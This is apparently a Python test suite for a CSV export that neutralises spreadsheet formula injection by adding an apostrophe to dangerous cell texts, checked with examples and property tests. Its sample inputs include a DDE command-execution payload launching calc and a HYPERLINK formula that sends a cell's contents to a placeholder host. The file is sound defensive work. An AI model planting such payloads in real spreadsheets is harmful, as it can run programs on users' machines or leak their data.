"""Texts that a spreadsheet would run as a formula are written so that it doesn't, and read back as they were."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gd.tables.dataset import Dataset, read_csv
from gd.tables.spreadsheet import shielded, unshielded
from tests.tables.unpacked import fold_files

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "−1+1",
    "@SUM(A1)",
    "\t=1",
    "\tword",
    "\rword",
    "\nword",
    " =1",
    "\u3000=1",
    "\0=1",
    "\ufeff=1",
    '"=1"',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1",
    "﹢x",
    "﹣x",
    "﹫x",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.test/?"&A1)',
    "-",
    "-2 to 3",
    "-1.5.x",
    "+49 30 123",
    "'=1",
    "''@x",
]
HARMLESS = [
    "",
    "a",
    "a=b",
    "a-b",
    "a@b.test",
    "1",
    "-1.5",
    "+1.5",
    "-.5",
    "-1,5",
    "-1,234.5",
    "−1.5",
    "-1e-5",
    "-2E+10",
]
HARMLESS += ["'tis", "'", "''", "'a=b", "1;-2", "(-1)", "x;'y"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert shielded(text)[0] == "'"
    assert unshielded(shielded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert shielded(text) == text
    assert unshielded(text) == text


@pytest.mark.parametrize("mark", [";", "\t", "|", "\n", "\r", "\r\n"])
def test_a_formula_after_what_another_program_takes_for_the_end_of_a_cell(mark: str) -> None:
    assert shielded(f"a{mark}=1+1{mark}b") == f"a{mark}'=1+1{mark}b"
    assert shielded(f'a{mark}"=1+1') == f"a{mark}'\"=1+1"
    assert shielded(f"a{mark}-1.5{mark}-1") == f"a{mark}-1.5{mark}-1"


@given(st.text("='+-@−＝;|\t\n\r \"a1.,eE\0") | st.text())
def test_every_text_comes_back(text: str) -> None:
    assert unshielded(shielded(text)) == text


@given(st.text("='+-@−＝;|\t\n\r \"a1.,eE\0") | st.text())
def test_no_cell_begins_a_formula_however_it_is_cut(text: str) -> None:
    for cell in re.split("[;|\t\r\n]", shielded(text)):
        if cell.lstrip(' "')[:1] in ("=", "+", "-", "@", "−", "＝"):
            assert re.fullmatch("[-+−][0-9.,]+([eE][-+]?[0-9]+)?", cell)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


NAMES = ["=1+1", "-x", "@kind", "'=y"]
LEVELS = ["=cmd()", "-2 to 3", "'=cmd()", "-1.5", None]
FRAME = pd.DataFrame(
    {
        "=1+1": [1.5, -2.0, 3.0, 4.0, 5.0] * 2,
        "@kind": LEVELS * 2,
        "-x": [-1.0, 2, -0.0, 1e308, 5e-324] * 2,
        "'=y": range(10),
    }
).astype({"@kind": "str", "'=y": float})


def test_a_cleaned_table_has_no_formula_and_its_numbers_stay_numbers() -> None:
    head, first, second, *_ = cells(Dataset(FRAME, {}, ()).to_csv())
    assert head == ["'=1+1", "'@kind", "'-x", "''=y"]
    assert first == ["1.5", "'=cmd()", "-1.0", "0.0"]
    assert second == ["-2.0", "'-2 to 3", "2.0", "1.0"]


def test_a_cleaned_table_is_read_back_as_it_was() -> None:
    again = read_csv(Dataset(FRAME, {}, ()).to_csv().encode())
    assert again.names == tuple(FRAME)
    assert again.categories == ("@kind",)
    wanted = FRAME.set_axis(again.frame.index)
    pd.testing.assert_frame_equal(again.frame.astype({"@kind": "str"}), wanted, check_exact=True)
    assert read_csv(again.to_csv().encode()).to_csv() == again.to_csv()


def test_a_cleaned_table_is_folded_with_the_same_names(tmp_path: Path) -> None:
    file = tmp_path / "t.csv"
    file.write_text(Dataset(FRAME, {}, ()).to_csv(), encoding="utf-8", newline="")
    factor, _ = fold_files(file, target="'=y", features=["=1+1", "@kind"])
    assert factor.target == "'=y"
    assert set(factor.columns) == {"=1+1", *(f"@kind={level}" for level in LEVELS if level)}


@given(st.lists(st.tuples(st.floats(allow_nan=False, allow_infinity=False), st.sampled_from(LEVELS)), min_size=1))
def test_every_cell_of_a_written_table_is_the_shielded_one(rows: list[tuple[Any, Any]]) -> None:
    frame = pd.DataFrame(rows, columns=["x", "c"]).astype({"x": float, "c": "str"})
    assert cells(Dataset(frame, {}, ()).to_csv())[1:] == [
        [repr(x), "" if level is None else shielded(level)] for x, level in rows
    ]
